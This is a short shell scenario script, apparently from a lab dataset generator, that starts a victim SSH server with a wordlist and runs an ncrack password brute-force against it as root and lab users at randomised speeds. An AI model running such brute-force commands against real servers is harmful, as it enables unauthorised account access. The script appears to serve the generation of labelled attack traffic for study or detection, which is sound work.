# SPDX-License-Identifier: MIT
# label: bruteforce-ssh
# source: lab-ncrack
# needs: ncrack sshd
# seconds: 60
# Passwords for ssh by ncrack, whose timing adapts.
. $lab/victims.sh

servers() {
	victim_ssh c 22 -o "MaxAuthTries=$(choose 3 6)"
	words_up 80
}

scenario() {
	_speed=$(choose -T2 -T3 -T4)
	setting options "$_speed"
	attack u c tcp 22 -- timeout 50 ncrack "$_speed" --user root,lab -P "$work/words" \
		-p ssh:22 "$(addr c)"
}
